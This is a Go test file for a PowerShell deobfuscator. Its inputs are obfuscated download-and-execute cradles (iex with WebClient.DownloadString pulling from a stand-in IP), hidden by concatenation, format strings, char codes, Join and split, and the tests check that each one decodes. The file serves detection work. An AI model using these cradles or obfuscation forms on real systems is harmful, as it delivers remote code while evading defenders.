package psdecode

import (
	"strings"
	"testing"
)

// TestStringBuilding: PowerShell quoting and string-building forms that must
// not stop decoding. Each input is written from the technique (Invoke-Obfuscation
// output, hand-obfuscated cradles); want must appear in the final text.
func TestStringBuilding(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		// Quote escapes.
		{"single doubled quotes in concat", `iex ('(New-Object Net.We'+'bClient).Downlo'+'adString(''ht'+'tp://203.0.113.5/a'')')`,
			`'(New-Object Net.WebClient).DownloadString(''http://203.0.113.5/a'')'`},
		{"double backtick quote in concat", "iex (\"(New-Object Net.Web\"+\"Client).Download\"+\"String(`\"http://203.0.113.5/a`\")\")",
			`'(New-Object Net.WebClient).DownloadString("http://203.0.113.5/a")'`},
		{"double doubled quote in concat", `iex ("(New-Object Net.Web"+"Client).Download"+"String(""http://203.0.113.5/a"")")`,
			`'(New-Object Net.WebClient).DownloadString("http://203.0.113.5/a")'`},
		{"backtick escapes in a literal", "&(\"I`E`X\") (\"Write-Host `\"hi`\"\"+\"x\")", `'Write-Host "hi"x'`},
		{"single here-string", "$c = @'\n(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')\n'@\niex $c",
			`iex '(New-Object Net.WebClient).DownloadString(''http://203.0.113.5/a'')'`},
		{"double here-string format", "$f = @\"\n{1}{0}\n\"@ -f 'String','Download'\n$w.$f", `'DownloadString'`},
		// String building.
		{"string join", `$m=[string]::Join('', @('Do','wnl','oad','Str','ing'))`, `$m='DownloadString'`},
		{"string join parens", `$m=[String]::Join('',('Invoke','-','Expression'))`, `$m='Invoke-Expression'`},
		{"string join args", `$m=[string]::join('-','a','b','c')`, `$m='a-b-c'`},
		{"string concat", `$m=[string]::Concat('Down','load','String')`, `$m='DownloadString'`},
		{"join unary", `$m=-join('Down','load','String')`, `$m='DownloadString'`},
		{"insert", `$m='DownString'.Insert(4,'load')`, `$m='DownloadString'`},
		{"insert chain", `$m='loadStr'.Insert(0,'Down').Insert(11,'ing')`, `$m='DownloadString'`},
		{"substring", `$m=('xxDownloadStringyy').Substring(2,14)`, `$m='DownloadString'`},
		{"substring one arg", `$m='zzzzInvoke-Expression'.SubString(4)`, `$m='Invoke-Expression'`},
		{"remove", `$m='DownXXloadString'.Remove(4,2)`, `$m='DownloadString'`},
		{"char mixed", `$m=('Downl'+[char]111+'ad'+[CHAR]0x53+"tring")`, `$m='DownloadString'`},
		{"variables concatenated", `$a='Down';$b='loadString';$wc=New-Object Net.WebClient;$wc.($a+$b)('http://203.0.113.5/a')`,
			`$wc.'DownloadString'('http://203.0.113.5/a')`},
		{"variables interpolated", "$a='Invoke-';$b=\"Expression\"\n& \"$a$b\" $x", `& 'Invoke-Expression' $x`},
		{"braced variable", "${u} = 'http://203.0.113.5/a'\n(New-Object Net.WebClient).DownloadString(${u})", `DownloadString('http://203.0.113.5/a')`},
		{"set-variable", "Set-Variable -Name p1 -Value 'Down'\nsv p2 'loadString'\n$w.((Get-Variable p1).Value+(gv p2 -ValueOnly))", `$w.'DownloadString'`},
		{"split join", `$m=('D-o-w-n-l-o-a-d-S-t-r-i-n-g' -split '-') -join ''`, `$m='DownloadString'`},
		{"split method join", `$m=-join 'D|own|load|Str|ing'.Split('|')`, `$m='DownloadString'`},
		{"split regex join", `$m=('Down1load22String' -split '\d+') -join ''`, `$m='DownloadString'`},
		{"index join", `$m=('gnirtSdaolnwoD'[13..0]) -join ''`, `$m='DownloadString'`},
		{"format escaped braces", "$m=(\"{0}|%{{{1} `$_}}\" -f 'gci','iex')", `$m='gci|%{iex $_}'`},
		{"format paren args", `$m=('{1}{0}' -f ('String','Download'))`, `$m='DownloadString'`},
		{"format var args", "$x='load';$m=('{0}{1}{2}' -f 'Down',$x,'String')", `$m='DownloadString'`},
		{"subexpression literal", "$m=(\"$('Down')load\"+'String')", `$m='DownloadString'`},
		{"typographic quotes", "$m=(\u2018Down\u2019+\u201cload\u201d+\u2018String\u2019)", `$m='DownloadString'`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Deobfuscate(tt.in, Limits{})
			if !strings.Contains(got.Text, tt.want) {
				t.Errorf("Deobfuscate(%q)\n text %q\n want it to contain %q (layers %d)", tt.in, got.Text, tt.want, len(got.Layers))
			}
		})
	}
}

// TestResolveLeavesUnknownValues: a variable is only replaced when the script
// gives it exactly one literal value; comments and strings assign nothing.
func TestResolveLeavesUnknownValues(t *testing.T) {
	for _, in := range []string{
		"$a='Down'\n$a='Up'\n$w.$a",                     // two values
		"$a='Down'\n$a+='load'\n$w.$a",                  // modified
		"$a='Down'\nforeach($a in $list){$w.$a}",        // loop variable
		"$a='Down'\nf ([ref]$a)\n$w.$a",                 // passed by reference
		"function f { param($a='Down') $w.$a }",         // parameter default
		"# $a='Down'\n$w.$a",                            // comment
		"Write-Host '$a=''Down'''\n$w.$a",               // inside a string
		"$a = Get-Content x\n$w.$a",                     // not a literal
		"$a = 'Down' + $b\n$w.$a",                       // not one literal
		"$_ = 'x'\n$w.$_",                               // automatic variable
		"$a='Down'; $a++; $w.$a",                        // incremented
		"sv a 'Down'\nsv a (Get-Date)\n$w.(gv a).Value", // Set-Variable twice
	} {
		got := Deobfuscate(in, Limits{})
		if got.Resolved || strings.Contains(got.Text, "$w.'Down'") || strings.Contains(got.Text, "$w.'Up'") {
			t.Errorf("Deobfuscate(%q) resolved a variable: %q", in, got.Text)
		}
	}
}

// TestResolveQuietOnPlainScripts: rewriting quotes alone is no decoding step.
func TestResolveQuietOnPlainScripts(t *testing.T) {
	in := "$p = \"C:\\Program Files\\Contoso\"\nGet-ChildItem -Path \"$p\" | Where-Object { $_.Name -like \"*.log\" }\n$msg = @'\nDone.\n'@\nWrite-Host \"Done `t ok\""
	got := Deobfuscate(in, Limits{})
	if len(got.Layers) != 0 {
		t.Errorf("layers %v on a plain script", got.Layers)
	}
	if !got.Resolved || !strings.Contains(got.Text, `Get-ChildItem -Path 'C:\Program Files\Contoso'`) {
		t.Errorf("variable not resolved: resolved %v, text %q", got.Resolved, got.Text)
	}
}
